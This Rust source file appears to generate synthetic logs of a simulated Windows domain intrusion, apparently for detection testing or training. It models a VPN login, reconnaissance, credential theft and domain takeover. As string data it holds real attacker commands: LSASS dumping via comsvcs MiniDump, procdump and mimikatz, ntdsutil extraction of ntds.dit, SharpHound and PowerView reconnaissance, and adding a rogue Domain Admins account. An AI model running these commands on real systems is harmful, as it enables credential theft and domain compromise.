//! In by the VPN, around, passwords, the domain.

use super::{Attack, CMD, POWERSHELL, run};
use crate::evtx::Value::{Number, Text};
use crate::lines::Flow;
use crate::log::{MINUTE, Micros, SECOND};
use crate::scene::{Process, Proof, Scene};
use crate::shapes;

const SYSTEM32: &str = "C:\\Windows\\System32\\";

/// A log-on to the VPN with a password alone, then a remote desktop.
pub(super) fn come_in(scene: &mut Scene<'_>, attack: &mut Attack, start: Micros) -> (Process, Micros) {
    let world = scene.world;
    let name = &world.person(attack.entry).name;
    for number in 0..scene.dice.between(0, 3) {
        scene.vpn(
            start - (40 - 9 * number) * SECOND,
            "ssl-login-fail",
            name,
            attack.outside,
            "reason=\"sslvpn_login_permission_denied\" msg=\"SSL user failed to logged in\"",
        );
    }
    let country = *scene.dice.pick(&["Netherlands", "Romania", "Moldova", "Singapore", "Panama"]);
    let rest = format!(
        "tunnelip={} srccountry=\"{country}\" group=\"vpn-suppliers\" auth=\"password\" mfa=\"no\" reason=\"login successfully\" msg=\"SSL tunnel established\"",
        attack.tunnel,
    );
    scene.vpn(start, "tunnel-up", name, attack.outside, &rest);
    let now = start + scene.dice.between(3 * MINUTE, 12 * MINUTE);
    let zero = world.machine(attack.zero);
    let flow = Flow {
        from: attack.tunnel,
        to: zero.ip,
        port: 3_389,
        service: "rdp",
        sent: 900_000,
        received: 22_000_000,
        passed: true,
    };
    scene.conn(now - SECOND, &flow, "SF");
    scene.firewall(now - SECOND, &flow);
    scene.log.windows(
        now - SECOND,
        attack.zero,
        &shapes::REMOTE_CONNECTION,
        &[
            ("Param1", Text(name)),
            ("Param2", Text(&world.short)),
            ("Param3", Text(&attack.tunnel.to_string())),
        ],
    );
    let logon = scene.logon(now, attack.zero, attack.entry, 10, Some(attack.tunnel), Proof::Kerberos);
    let user = scene.user(&logon);
    scene.log.windows(
        now + SECOND,
        attack.zero,
        &shapes::SESSION_LOGON,
        &[("User", Text(&user)), ("SessionID", Number(4)), ("Address", Text(&attack.tunnel.to_string()))],
    );
    attack.touch(attack.zero, now);
    let desktop = scene.running(logon, "C:\\Windows\\explorer.exe");
    let shell = scene.spawn(now + 40 * SECOND, &desktop, CMD, &format!("\"{CMD}\""));
    (shell, now + MINUTE)
}

/// Who am I, who rules here, what is there.
pub(super) fn look_around(scene: &mut Scene<'_>, attack: &Attack, shell: &Process, start: Micros) -> Micros {
    const COMMANDS: [(&str, &str); 9] = [
        ("whoami.exe", "whoami /all"),
        ("ipconfig.exe", "ipconfig /all"),
        ("systeminfo.exe", "systeminfo"),
        ("nltest.exe", "nltest /domain_trusts /all_trusts"),
        ("nltest.exe", "nltest /dclist:"),
        ("net.exe", "net group \"Domain Admins\" /domain"),
        ("net.exe", "net group \"Enterprise Admins\" /domain"),
        ("net.exe", "net view /all /domain"),
        ("quser.exe", "quser"),
    ];
    let world = scene.world;
    let mut now = start;
    for (image, command) in COMMANDS {
        scene.spawn(now, shell, &format!("{SYSTEM32}{image}"), command);
        now += scene.dice.between(8 * SECOND, 50 * SECOND);
    }
    let folder = attack.tools.folder;
    match scene.dice.below(3) {
        0 => {
            let tool = format!("{folder}AdFind.exe");
            scene.write_file(now, shell, &tool);
            let command = "adfind.exe -f \"(objectcategory=computer)\" -csv name operatingsystem dnshostname";
            let found = scene.spawn(now + 20 * SECOND, shell, &tool, command);
            scene.write_file(now + 30 * SECOND, &found, &format!("{folder}computers.csv"));
        }
        1 => {
            let tool = format!("{folder}SharpHound.exe");
            scene.write_file(now, shell, &tool);
            let command = "SharpHound.exe --CollectionMethods All --NoSaveCache --ZipFilename out.zip";
            let found = scene.spawn(now + 20 * SECOND, shell, &tool, command);
            scene.write_file(now + 4 * MINUTE, &found, &format!("{folder}20261100_BloodHound.zip"));
        }
        _ => {
            scene.spawn(now, shell, POWERSHELL, "powershell -nop -w hidden -ep bypass");
            let text = "Import-Module .\\PowerView.ps1; Get-DomainComputer -Properties dnshostname,operatingsystem; Invoke-ShareFinder -CheckShareAccess; Find-LocalAdminAccess";
            scene.script(now + 20 * SECOND, attack.zero, text, &format!("{folder}pv.ps1"));
        }
    }
    now += 6 * MINUTE;
    let tool = format!("{folder}{}.exe", scene.dice.pick(&["netscan", "advanced_port_scanner", "nbt"]));
    let scan = scene.spawn(now, shell, &tool, &format!("{tool} /hide /range:10.0.0.0-10.255.255.255"));
    let from = world.machine(attack.zero).ip;
    for machine in world.servers.iter().chain(&world.linux) {
        for port in [445, 3_389, 22] {
            now += scene.dice.between(30_000, 300_000);
            let to = world.machine(*machine).ip;
            let state = *scene.dice.pick(&["S0", "REJ", "SF"]);
            scene.conn(
                now,
                &Flow { from, to, port, service: "-", sent: 0, received: 0, passed: true },
                state,
            );
        }
        scene.connect(now, &scan, world.machine(*machine).ip, "-", 445);
    }
    now + scene.dice.between(10 * MINUTE, 25 * MINUTE)
}

/// Service tickets to guess offline, then the memory of the log-on process.
pub(super) fn take_passwords(
    scene: &mut Scene<'_>,
    attack: &Attack,
    shell: &Process,
    start: Micros,
) -> Micros {
    let world = scene.world;
    let from = world.machine(attack.zero).ip;
    let mut now = start;
    for service in &world.services {
        let name = &world.person(*service).name;
        scene.service_ticket(now, attack.entry, name, from, 0x17);
        now += scene.dice.between(40_000, 400_000);
    }
    now += scene.dice.between(12 * MINUTE, 30 * MINUTE);
    let folder = attack.tools.folder;
    let dump = format!("{folder}{}.dmp", scene.dice.letters(6));
    let lsass = "C:\\Windows\\System32\\lsass.exe";
    let dumper = match scene.dice.below(3) {
        0 => run(
            scene,
            now,
            shell,
            "C:\\Windows\\System32\\rundll32.exe",
            &format!("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 {dump} full"),
        ),
        1 => {
            let tool = format!("{folder}procdump64.exe");
            scene.write_file(now - 10 * SECOND, shell, &tool);
            run(scene, now, shell, &tool, &format!("procdump64.exe -accepteula -ma lsass.exe {dump}"))
        }
        _ => {
            let tool = format!("{folder}{}.exe", scene.dice.letters(5));
            scene.write_file(now - 10 * SECOND, shell, &tool);
            run(
                scene,
                now,
                shell,
                &tool,
                &format!("{tool} \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"),
            )
        }
    };
    scene.open_process(now + SECOND, &dumper, lsass, 0x1f_ffff);
    scene.write_file(now + 2 * SECOND, &dumper, &dump);
    now + scene.dice.between(8 * MINUTE, 20 * MINUTE)
}

/// With an administrator's hash onto a domain controller: every password, and an account of their own.
pub(super) fn take_domain(
    scene: &mut Scene<'_>,
    attack: &mut Attack,
    shell: &Process,
    start: Micros,
) -> Micros {
    let world = scene.world;
    let (from, controller) = (world.machine(attack.zero).ip, attack.controller);
    let target = world.machine(controller);
    scene.connect(start - SECOND, shell, target.ip, &target.full, 445);
    let logon = scene.logon(start, controller, attack.admin, 3, Some(from), Proof::Ntlm);
    let (sid, name) = scene.who(&logon);
    let mut now = start + 20 * SECOND;
    if scene.dice.percent(50) {
        replicate(scene, attack, &sid, &name, logon.id, now);
    }
    scene.share(now + SECOND, &logon, from, "\\\\*\\ADMIN$", "\\??\\C:\\Windows");
    attack.touch(controller, start);
    now += MINUTE;
    let wmi = scene.running(logon, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
    let folder = *scene.dice.pick(&["C:\\Windows\\Temp\\", "C:\\ProgramData\\"]);
    let command = format!("ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full {folder}n\" q q");
    let dump = run(scene, now, &wmi, "C:\\Windows\\System32\\ntdsutil.exe", &command);
    let copy = format!("{folder}n\\Active Directory\\ntds.dit");
    scene.write_file(now + 20 * SECOND, &dump, &copy);
    let text =
        format!("ntdsutil (4732) The database engine created a new database (2, {copy}). (Time=0 seconds)");
    scene.log.windows(now + 21 * SECOND, controller, &shapes::DATABASE_CREATED, &[("", Text(&text))]);
    now += scene.dice.between(6 * MINUTE, 15 * MINUTE);
    let made = attack.made.clone();
    let command = format!("net user {made} {} /add /domain", scene.dice.letters(12));
    run(scene, now, &wmi, "C:\\Windows\\System32\\net.exe", &command);
    let new = format!("{}-{}", world.sid, 9_100 + scene.dice.below(500));
    let subject = [
        ("SubjectUserSid", Text(sid.as_str())),
        ("SubjectUserName", Text(name.as_str())),
        ("SubjectDomainName", Text(world.short.as_str())),
        ("SubjectLogonId", Number(logon.id)),
    ];
    let mut fields = vec![
        ("TargetUserName", Text(made.as_str())),
        ("TargetDomainName", Text(world.short.as_str())),
        ("TargetSid", Text(new.as_str())),
        ("SamAccountName", Text(made.as_str())),
        ("DisplayName", Text("%%1793")),
        ("PrimaryGroupId", Text("513")),
        ("OldUacValue", Text("0x0")),
        ("NewUacValue", Text("0x15")),
    ];
    fields.extend(subject);
    scene.log.windows(now + SECOND, controller, &shapes::ACCOUNT_CREATED, &fields);
    now += 20 * SECOND;
    run(
        scene,
        now,
        &wmi,
        "C:\\Windows\\System32\\net.exe",
        &format!("net group \"Domain Admins\" {made} /add /domain"),
    );
    let member = format!("CN={made},CN=Users,{}", distinguished(&world.domain));
    let group = format!("{}-512", world.sid);
    let mut fields = vec![
        ("MemberName", Text(member.as_str())),
        ("MemberSid", Text(new.as_str())),
        ("TargetUserName", Text("Domain Admins")),
        ("TargetDomainName", Text(world.short.as_str())),
        ("TargetSid", Text(group.as_str())),
    ];
    fields.extend(subject);
    scene.log.windows(now + SECOND, controller, &shapes::GROUP_MEMBER_ADDED, &fields);
    scene.logoff(now + MINUTE, &logon);
    now + scene.dice.between(15 * MINUTE, 40 * MINUTE)
}

/// The directory asked for all its secrets, as another controller would.
fn replicate(scene: &mut Scene<'_>, attack: &Attack, sid: &str, name: &str, logon: u64, now: Micros) {
    let domain = scene.world.short.as_str();
    for (number, right) in ["1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"]
        .into_iter()
        .enumerate()
    {
        let properties = format!("%%7688\n\t\t{{{right}}}\n\t{{19195a5b-6da0-11d0-afd3-00c04fd930c9}}\n");
        scene.log.windows(
            now + 300_000 * number as i64,
            attack.controller,
            &shapes::DIRECTORY_ACCESS,
            &[
                ("SubjectUserSid", Text(sid)),
                ("SubjectUserName", Text(name)),
                ("SubjectDomainName", Text(domain)),
                ("SubjectLogonId", Number(logon)),
                ("ObjectServer", Text("DS")),
                ("ObjectType", Text("%{19195a5b-6da0-11d0-afd3-00c04fd930c9}")),
                ("ObjectName", Text("%{c1e0a3a4-5f0c-4b3b-8f0e-2a7d3c9e1b11}")),
                ("OperationType", Text("Object Access")),
                ("AccessList", Text("%%7688\n\t\t\t\t")),
                ("AccessMask", Number(0x100)),
                ("Properties", Text(&properties)),
                ("AdditionalInfo2", Text("")),
            ],
        );
    }
}

fn distinguished(domain: &str) -> String {
    domain.split('.').map(|part| format!("DC={part}")).collect::<Vec<_>>().join(",")
}
